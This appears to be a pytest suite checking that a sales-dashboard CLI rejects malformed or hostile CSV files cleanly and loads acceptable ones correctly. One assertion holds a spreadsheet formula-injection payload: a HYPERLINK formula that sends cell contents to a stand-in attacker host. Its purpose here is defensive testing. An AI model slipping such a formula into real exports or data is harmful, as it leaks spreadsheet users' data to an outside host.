"""The hostile CSV corpus (tests/data/bad, listed in manifest.toml) through `salesdash ingest`.

Rejected files: exit code 2, one clear line on stderr that names the line/column (the manifest's fragment), no
traceback, and the store answers exactly as before (every metric output compared). Accepted files load and give
the numbers they should. Runs on every engine of the contract suite.
"""

from __future__ import annotations

import csv
import importlib.util
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, func, select

from salesdash import cli
from salesdash.ingest import ingest_file
from salesdash.metrics import Filters, breakdown, kpis
from salesdash.store import make_engine, snapshot
from salesdash.store.schema import order_lines
from tests.conftest import ENGINE_PARAMS, SMALL_CSV, ScratchDatabases
from tests.reliability.support import ALL_STATUSES, BAD, corpus, metric_outputs

CASES = corpus()
REJECTED = [c for c in CASES if not c["accept"]]
ACCEPTED = [c for c in CASES if c["accept"]]
ROW_LEVEL = [c for c in REJECTED if "skip_rejected" in c]


def _ids(cases: list[dict[str, Any]]) -> list[str]:
    return [c["file"].removesuffix(".csv") for c in cases]


def run_cli(
    args: list[str], url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> tuple[int, str, str]:
    """`salesdash ARGS` in this process (the CLI's own main(), same exit codes and messages)."""
    monkeypatch.setenv("SALESDASH_DATABASE_URL", url)
    capsys.readouterr()
    code = cli.main(args)
    out, err = capsys.readouterr()
    return code, out, err


def stored_lines(engine: Engine) -> int:
    with snapshot(engine) as conn:
        return int(conn.execute(select(func.count()).select_from(order_lines)).scalar_one())


# -- the corpus itself ---------------------------------------------------------------------------------------


def test_corpus_is_complete_and_reproducible():
    spec = importlib.util.spec_from_file_location("make_corpus", BAD / "make_corpus.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    sys.modules["make_corpus"] = module  # dataclasses look their module up while the file executes
    try:
        spec.loader.exec_module(module)
    finally:
        del sys.modules["make_corpus"]
    built = module.build()
    stale = [name for name, data in built.items() if (BAD / name).read_bytes() != data]
    assert stale == [], f"committed corpus differs from make_corpus.py output: {stale}"
    on_disk = {p.name for p in BAD.iterdir() if p.suffix == ".csv"}
    assert on_disk == {c["file"] for c in CASES}  # every file is in the manifest, and vice versa
    assert len(CASES) >= 25
    assert len(ACCEPTED) >= 6
    assert (BAD / "huge_field.csv").stat().st_size > 1 << 20
    assert all(c["message"] for c in CASES)


# -- rejected files: refused clearly, nothing changes --------------------------------------------------------


@dataclass
class LoadedStore:
    url: str
    engine: Engine
    before: dict[str, Any]


# Every rejected file on SQLite; on DuckDB and PostgreSQL one file per kind of refusal (a refused file never
# reaches the database, so the other engines add the lock path and the unchanged-store check, not new messages).
EVERY_ENGINE = {
    "binary_garbage.csv",
    "missing_column.csv",
    "truncated_last_line.csv",
    "huge_sales.csv",
    "two_customers_one_order.csv",
}


def _rejected_params() -> list[Any]:
    params = []
    for engine in ENGINE_PARAMS:
        kind = engine.values[0]
        for case in REJECTED:
            if kind == "sqlite" or case["file"] in EVERY_ENGINE:
                name = case["file"].removesuffix(".csv")
                params.append(pytest.param(kind, case, marks=engine.marks, id=f"{kind}-{name}"))
    return params


@pytest.fixture(scope="module")
def loaded_store(request: pytest.FixtureRequest, scratch: ScratchDatabases) -> Iterator[LoadedStore]:
    """A store holding small.csv, with a snapshot of everything the metric layer answers for it."""
    url = scratch.url(str(request.param))
    engine = make_engine(url)
    ingest_file(engine, SMALL_CSV)
    yield LoadedStore(url=url, engine=engine, before=metric_outputs(engine))
    engine.dispose()


@pytest.mark.parametrize(("loaded_store", "case"), _rejected_params(), indirect=["loaded_store"])
def test_rejected_file_changes_nothing(
    case: dict[str, Any],
    loaded_store: LoadedStore,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
):
    code, out, err = run_cli(
        ["ingest", str(BAD / case["file"]), "--quiet"], loaded_store.url, monkeypatch, capsys
    )
    assert code == cli.EXIT_USER_ERROR, err
    assert out == ""
    assert err.startswith("salesdash: error: ")
    assert err.count("\n") == 1, f"expected one line, got: {err!r}"
    assert case["message"] in err
    assert "Traceback" not in err
    assert len(err) < 3000  # a 1 MiB cell is clipped, not echoed
    assert metric_outputs(loaded_store.engine) == loaded_store.before


@pytest.mark.parametrize("case", ROW_LEVEL, ids=_ids(ROW_LEVEL))
def test_row_level_problems_name_line_and_column(case: dict[str, Any]):
    from salesdash.errors import ValidationFailed
    from salesdash.ingest import prepare

    with pytest.raises(ValidationFailed) as info:
        prepare(BAD / case["file"])
    details = info.value.details
    assert details, "every row failure is listed in details"
    assert all(isinstance(d["line"], int) and d["line"] >= 2 for d in details)
    assert all(d["column"] and d["problem"] for d in details)
    assert len({d["line"] for d in details}) == case["skip_rejected"]


# -- --on-error skip: bad rows quarantined, the rest loaded, counts reported ----------------------------------


@pytest.mark.parametrize("case", ROW_LEVEL, ids=_ids(ROW_LEVEL))
def test_skip_mode_quarantines_bad_rows(
    case: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    url = f"sqlite:///{tmp_path / 'skip.db'}"
    rejects = tmp_path / "rejects.csv"
    path = BAD / case["file"]
    code, out, err = run_cli(
        ["ingest", str(path), "--quiet", "--on-error", "skip", "--rejects", str(rejects)],
        url,
        monkeypatch,
        capsys,
    )
    assert code == 0, err
    n = case["skip_rejected"]
    rows_read = len(path.read_bytes().splitlines()) - 1  # no multi-line cells in these files
    assert f"rows read:     {rows_read:,}" in out
    assert f"rows rejected: {n:,}" in out
    assert f"rows loaded:   {rows_read - n:,}" in out
    assert f"rejected rows written to {rejects}" in out
    limit = csv.field_size_limit(1 << 24)  # huge_field.csv's 1 MiB cell is quarantined as written
    try:
        with rejects.open(encoding="utf-8", newline="") as fh:
            quarantined = list(csv.DictReader(fh))
    finally:
        csv.field_size_limit(limit)
    assert len(quarantined) == n
    assert all(r["REJECT_REASON"] and int(r["LINE"]) >= 2 for r in quarantined)
    engine = make_engine(url)
    try:
        assert stored_lines(engine) == rows_read - n
    finally:
        engine.dispose()


@pytest.mark.parametrize(
    "name", ["binary_garbage.csv", "truncated_last_line.csv", "missing_column.csv", "gzipped.csv"]
)
def test_skip_mode_still_refuses_unreadable_files(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    url = f"sqlite:///{tmp_path / 'skip.db'}"
    code, out, err = run_cli(
        ["ingest", str(BAD / name), "--quiet", "--on-error", "skip"], url, monkeypatch, capsys
    )
    assert code == cli.EXIT_USER_ERROR
    assert out == ""
    assert next(c["message"] for c in CASES if c["file"] == name) in err


# -- accepted files -------------------------------------------------------------------------------------------


_REFERENCE: dict[str, dict[str, Any]] = {}


def small_reference(engine_kind: str, scratch: ScratchDatabases) -> dict[str, Any]:
    """Metric outputs of small.csv itself on this engine (computed once per engine)."""
    if engine_kind not in _REFERENCE:
        engine = make_engine(scratch.url(engine_kind))
        ingest_file(engine, SMALL_CSV)
        _REFERENCE[engine_kind] = metric_outputs(engine, with_version=False)
        engine.dispose()
    return _REFERENCE[engine_kind]


ENGINE_DEPENDENT = {"only_cancelled.csv", "formula_names.csv"}  # the other accepted files differ only in form


def _accepted_params() -> list[Any]:
    params = []
    for engine in ENGINE_PARAMS:
        kind = engine.values[0]
        for case in ACCEPTED:
            if kind == "sqlite" or case["file"] in ENGINE_DEPENDENT:
                name = case["file"].removesuffix(".csv")
                params.append(pytest.param(kind, case, marks=engine.marks, id=f"{kind}-{name}"))
    return params


@pytest.mark.parametrize(("engine_kind", "case"), _accepted_params(), indirect=["engine_kind"])
def test_accepted_file_loads(
    case: dict[str, Any],
    engine_kind: str,
    db_url: str,
    scratch: ScratchDatabases,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
):
    code, out, err = run_cli(["ingest", str(BAD / case["file"]), "--quiet"], db_url, monkeypatch, capsys)
    assert code == 0, err
    assert case["message"] in out
    assert "data version:" in out
    engine = make_engine(db_url)
    try:
        outputs = metric_outputs(engine, with_version=False)
        assert stored_lines(engine) == 8
        if case["file"] in ("utf8_bom.csv", "crlf.csv", "extra_columns.csv", "reordered_columns.csv"):
            # same content in another form: every number equal to small.csv's
            assert outputs == small_reference(engine_kind, scratch)
        elif case["file"] == "only_cancelled.csv":
            check_only_cancelled(engine)
        elif case["file"] == "formula_names.csv":
            check_formulas_stored_as_written(engine)
        elif case["file"] == "markup_names.csv":
            check_markup_stored_as_written(engine)
        else:
            pytest.fail(f"no content check for accepted file {case['file']}")
    finally:
        engine.dispose()


def check_only_cancelled(engine: Engine) -> None:
    """Every order cancelled: default revenue is zero and every ratio is empty, not a division by zero."""
    with snapshot(engine) as conn:
        default = kpis(conn, Filters())
        everything = kpis(conn, Filters(statuses=ALL_STATUSES))
        by_country = breakdown(conn, Filters(), "country")
    assert default["revenue"] == 0
    assert default["order_count"] == 0
    assert default["average_order_value"] is None
    assert default["average_unit_price"] is None
    assert everything["revenue"] == 17613.24  # small.csv's total: the cancelled lines are still stored
    assert everything["order_count"] == 6
    assert by_country.empty


def check_formulas_stored_as_written(engine: Engine) -> None:
    """Stored exactly as written (the data is not altered); exports neutralise (tests/reliability)."""
    with snapshot(engine) as conn:
        customers = set(breakdown(conn, Filters(statuses=ALL_STATUSES), "customer")["customer_name"])
    assert '=HYPERLINK("http://evil.example/x?leak="&A1,"Alpha Co")' in customers


def check_markup_stored_as_written(engine: Engine) -> None:
    """Markup in names is data like any other: stored and answered exactly as written (the dashboard escapes it
    where it shows it: tests/e2e/test_markup_browser.py)."""
    from tests.data.bad.make_corpus import MARKUP_COUNTRY, MARKUP_CUSTOMER, MARKUP_PRODUCT_LINE

    with snapshot(engine) as conn:
        everything = Filters(statuses=ALL_STATUSES)
        customers = set(breakdown(conn, everything, "customer")["customer_name"])
        countries = set(breakdown(conn, everything, "country")["country"])
        lines = set(breakdown(conn, everything, "product_line")["product_line"])
    assert MARKUP_CUSTOMER in customers
    assert MARKUP_COUNTRY in countries
    assert MARKUP_PRODUCT_LINE in lines


# -- as a user runs it: a real process ------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["huge_field.csv", "unbalanced_quotes.csv"])
def test_real_process_exits_2_with_one_line(name: str, tmp_path: Path):
    result = subprocess.run(
        [sys.executable, "-m", "salesdash", "ingest", str(BAD / name)],
        capture_output=True,
        text=True,
        env={"SALESDASH_DATABASE_URL": f"sqlite:///{tmp_path / 'p.db'}", "PATH": "/usr/bin:/bin"},
        cwd=tmp_path,
        timeout=120,
    )
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    errors = [ln for ln in result.stderr.splitlines() if ln.startswith("salesdash: error:")]
    assert len(errors) == 1
    assert next(c["message"] for c in CASES if c["file"] == name) in errors[0]
    assert not (tmp_path / "p.db").exists() or (tmp_path / "p.db").stat().st_size < 1 << 20
